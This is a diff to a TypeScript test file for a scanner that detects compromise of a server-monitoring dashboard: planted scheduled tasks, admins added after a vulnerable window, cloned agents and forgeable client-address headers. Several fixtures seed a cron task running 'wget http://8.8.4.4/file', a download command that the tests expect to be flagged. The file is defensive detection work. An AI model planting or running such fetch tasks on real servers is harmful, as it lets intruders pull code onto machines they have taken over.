@@ -92,29 +92,31 @@ const plantedTasks = ['AutoTask', 'mon-check', 'update', 'cache', 'report', 'per
 ])
 
 /** What starts them or takes the dashboard's requests, and where code comes from. */
-const plantedBeside = ['Load', 'Shop', 'web', 'status preview', 'foreignScript']
+const plantedBeside = ['Load', 'Shop', 'web', 'status preview', 'foreignScript', 'plantedCode']
 
 test('security: everything that was planted on a current server is found', async () => {
   const { urgent, all, tasks } = await findingsOf({ data: 'compromised' })
   expect(tasks).toEqual(expect.arrayContaining(['lock', 'agent', 'share', 'windows', 'config backup']))
   expect(urgent.toSorted()).toEqual([...plantedTasks, ...plantedBeside].toSorted())
-  // Newer servers do not list such services; this page is opened by https at a private address.
-  const absent = ['plantedService', 'plantedCode', 'plainPage', 'sharedAddress', 'forgeableAddress'].concat([
-    'strangeSession',
-    'unusedToken',
-    'failedMove',
-    'oldAgent',
-    'sharedSecret',
-    'otherAddress',
-    'ownBan',
-    'silentAgent',
-    'tokenAddress',
-  ])
+  // Newer servers do not list such services; the others need another header or address of the dashboard.
+  const absent = ['plantedService', 'plainPage', 'sharedAddress', 'forgeableAddress']
   expect(
     Object.keys(checks)
       .filter((name) => !all.includes(name))
       .toSorted(),
   ).toEqual(absent.toSorted())
+})
+
+test.each([
+  ['sharedAddress', 'NZ::Use-Peer-IP'],
+  ['forgeableAddress', 'X-Forwarded-For'],
+  ['plainPage', ''],
+])('security: %s is found on a taken over server as well', async (name, web_real_ip_header) => {
+  const page = { protocol: 'http:', host: 'dash.example.com' }
+  const { lists } = await factsFrom({ data: 'compromised' })
+  const setting = lists.setting!.map((record) => ({ ...record, web_real_ip_header }))
+  const { all } = await findingsOf({ data: 'compromised' }, { page, lists: { ...lists, setting } })
+  expect(all).toContain(name)
 })
 
 test('security: a server of the first line has the hole that anybody can use, and lists the planted service', async () => {
@@ -422,4 +424,98 @@ test('security: what needs the address of the viewer is not examined where the s
   const byAddress = ['sharedAddress', 'tokenAddress', 'ownBan', 'otherAddress']
   expect(unread.toSorted()).toEqual(byAddress.toSorted())
   expect(nothing.filter(({ check }) => byAddress.includes(check))).toEqual([])
+})
+
+const atTime = (seconds: number) => new Date(Date.parse('2026-11-20T08:00:00Z') + seconds * 1000).toISOString()
+const neighbour = (seconds: number) => [{ name: 'other', command: 'uptime', created_at: atTime(seconds) }]
+
+test.each<[string, object, object[], string]>([
+  ['nothing', {}, [], 'medium'],
+  ['no group of notifiers', { notification_group_id: 0 }, [], 'medium'],
+  ['a group of notifiers', { notification_group_id: 1 }, [], 'medium'],
+  ['all servers', { cover: 1 }, [], 'high'],
+  ['certain servers', { cover: 0, servers: [1] }, [], 'medium'],
+  ['every minute', { scheduler: '0 * * * * *' }, [], 'high'],
+  ['every minute, written otherwise', { scheduler: '30 */1 * * * ?' }, [], 'high'],
+  ['every minute of a time zone', { scheduler: 'CRON_TZ=Asia/Tokyo 0 * * * * *' }, [], 'high'],
+  ['@every 30s', { scheduler: '@every 30s' }, [], 'high'],
+  ['@every 1m', { scheduler: '@every 1m' }, [], 'high'],
+  ['@every 5m', { scheduler: '@every 5m' }, [], 'medium'],
+  ['every five minutes', { scheduler: '0 */5 * * * *' }, [], 'medium'],
+  ['every hour', { scheduler: '0 0 * * * *' }, [], 'medium'],
+  ['another task 299 seconds later', {}, neighbour(299), 'high'],
+  ['another task 299 seconds before', {}, neighbour(-299), 'high'],
+  ['another task 300 seconds later', {}, neighbour(300), 'medium'],
+])('security: a doubtful task with %s is %s', async (_, task, others, level) => {
+  const cron = [{ name: 'fetch', command: 'wget http://8.8.4.4/file', created_at: atTime(0), ...task }, ...others]
+  const { findings } = examine(await factsFrom({ seed: { cron } }))
+  expect(findings.find(({ record }) => record?.name === 'fetch')?.level).toBe(level)
+})
+
+test.each([
+  ['2026-05-24T23:59:59Z', '2026-06-12T00:00:00Z', true],
+  ['2026-05-24T23:59:59Z', '2026-06-11T23:59:59Z', false],
+  ['2026-05-25T00:00:00Z', '2026-06-12T00:00:00Z', false],
+])(
+  'security: installed at %s, a task and an admin of %s are worse for it: %s',
+  async (installed, created_at, isWorse) => {
+    const seed = {
+      user: [
+        { id: 1, username: 'admin', role: 0, created_at: installed },
+        { id: 2, username: 'support', role: 0, created_at },
+        { id: 3, username: 'ops', role: 1, created_at },
+      ],
+      cron: [{ name: 'fetch', command: 'wget http://8.8.4.4/file', created_at }],
+    }
+    const { findings } = examine(await factsFrom({ seed }))
+    expect(findings.find(({ check }) => check === 'plantedTask')?.level).toBe(isWorse ? 'high' : 'medium')
+    expect(findings.flatMap(({ check, record }) => (check === 'lateAdmin' ? [record?.name] : []))).toEqual(
+      isWorse ? ['support'] : [],
+    )
+    expect(findings.some(({ check }) => check === 'wasOpen')).toBe(installed < '2026-05-25')
+  },
+)
+
+test('security: a server that is still open was open, however young it is', async () => {
+  expect((await findingsOf({ dialect: 'classic' })).all).toContain('wasOpen')
+})
+
+const machine = { boot_time: 1_790_000_000, cpu: ['AMD EPYC 7 Virtual Core'], platform: 'debian', version: '2.3.3' }
+
+test.each([
+  ['120 seconds later', { boot_time: machine.boot_time + 120 }, '203.0.113.9', true],
+  ['121 seconds later', { boot_time: machine.boot_time + 121 }, '203.0.113.9', false],
+  ['another processor', { cpu: ['Intel Xeon 2 Virtual Core'] }, '203.0.113.9', false],
+  ['another address', {}, '203.0.113.10', false],
+])('security: a second agent with %s (%o at %s) is a twin: %s', async (_, host, ipv4_addr, isTwin) => {
+  const agent = (name: string, facts: object, ip: string) => ({
+    name,
+    online: true,
+    host: { ...machine, ...facts },
+    geoip: { ip: { ipv4_addr: ip } },
+  })
+  const seed = { server: [agent('tokyo', {}, '203.0.113.9'), agent('copper', host, ipv4_addr)] }
+  const { findings } = examine(await factsFrom({ seed }))
+  expect(findings.flatMap(({ check, evidence }) => (check === 'twinAgents' ? [evidence] : []))).toEqual(
+    isTwin ? [[{ text: 'copper, tokyo' }]] : [],
+  )
+})
+
+test('security: agents of a private network, and one that is offline, are no twins', async () => {
+  const agents = (ipv4_addr: string, online: boolean) =>
+    ['tokyo', 'copper'].map((name, at) => ({
+      name,
+      online: at === 0 || online,
+      host: machine,
+      geoip: { ip: { ipv4_addr } },
+    }))
+  expect((await findingsOf({ seed: { server: agents('192.168.1.4', true) } })).all).not.toContain('twinAgents')
+  expect((await findingsOf({ seed: { server: agents('203.0.113.9', false) } })).all).not.toContain('twinAgents')
+  expect((await findingsOf({ seed: { server: agents('203.0.113.9', true) } })).all).toContain('twinAgents')
+})
+
+test('security: a release that suffices for what is urgent is named, besides the one for everything', async () => {
+  const { fix, urgentFix } = examine(await factsFrom({ data: 'empty', dialect: 'classic' }))
+  expect([urgentFix?.fixed, fix?.fixed !== urgentFix?.fixed]).toEqual(['2.0.13', true])
+  expect(examine(await factsFrom({ data: 'empty' })).urgentFix).toBeUndefined()
 })
